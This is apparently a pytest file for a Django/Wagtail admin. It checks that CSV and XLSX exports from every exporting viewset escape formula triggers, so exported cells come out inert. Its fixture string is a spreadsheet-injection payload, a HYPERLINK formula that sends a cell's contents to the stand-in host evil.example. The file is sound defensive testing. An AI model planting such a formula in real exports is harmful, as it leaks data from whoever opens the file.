"""Issue 11 item 3: no admin export, of any viewset, in CSV or XLSX, carries a live formula."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.admin.viewsets import viewsets

from tests.factories import DossierFactory, UserFactory
from tests.factories.importers import AgencyStatFactory, PlanTaskFactory

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")'


def exporting_viewsets():
    reverse("wagtailadmin_home")  # the admin URLconf populates the registry
    return [
        v
        for v in viewsets.viewsets
        if issubclass(getattr(v, "index_view_class", object), SpreadsheetExportMixin)
    ]


def test_every_registered_exporting_viewset_escapes_formulas():
    found = exporting_viewsets()
    prefixes = {v.url_prefix for v in found if v.name}
    assert {"dossier", "agencystat", "plantask"} <= prefixes, prefixes
    for viewset in found:
        view = viewset.index_view_class()
        for export_format in (SpreadsheetExportMixin.FORMAT_CSV, SpreadsheetExportMixin.FORMAT_XLSX):
            for trigger in ("=", "+", "-", "@", "\t", "\r"):
                cell = view.preprocess_field_value("name", f"{trigger}1+1", export_format)
                assert cell == f"'{trigger}1+1", (viewset, export_format, trigger)
            assert view.preprocess_field_value("name", "Sở Xây dựng", export_format) == "Sở Xây dựng"


def csv_rows(response):
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def xlsx_values(response):
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]


@pytest.fixture
def admin_client(db, client):
    client.force_login(UserFactory(superuser=True))
    return client


def test_the_three_exports_of_the_issue_come_out_inert(admin_client):
    DossierFactory(applicant={"name": EVIL})
    AgencyStatFactory(agency_name=EVIL)
    PlanTaskFactory(content=EVIL)
    for url in ("/admin/dossier/", "/admin/agencystat/", "/admin/plantask/"):
        cells = [c for row in csv_rows(admin_client.get(url, {"export": "csv"}))[1:] for c in row]
        assert "'" + EVIL in cells and EVIL not in cells, url
        values = xlsx_values(admin_client.get(url, {"export": "xlsx"}))
        assert "'" + EVIL in values and EVIL not in values, url
